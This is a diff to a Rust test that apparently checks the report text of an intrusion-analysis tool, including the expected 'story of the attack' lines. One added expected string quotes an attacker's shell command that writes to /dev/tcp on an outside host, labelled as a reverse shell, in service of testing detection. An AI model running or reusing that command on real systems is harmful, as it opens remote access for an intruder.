@@ -23,10 +23,14 @@ fn the_story_is_told_to_its_end() {
         "indicator 198.51.100.0/28",
         "kept byte for byte",
         "The story of the attack",
+        "CRITICAL: On web01, deploy from 203.0.113.66 did 14 things that belong to an attack, in 8 tactics",
+        "./.k -c rm -f .k; echo x >/dev/tcp/203.0.113.66/8000; sleep 0.5  <- indicator 203.0.113.66",
+        "<- high: Reverse shell",
         "session 52: deploy from 203.0.113.66 by sshd, password",
         "What to try next",
     ] {
         assert!(told.contains(wanted), "'{wanted}' in\n{told}");
     }
+    assert_eq!(told.matches("\nhost ").count(), 1, "{told}");
     assert!(!told.contains('\x1b'), "colour where nobody looks");
 }
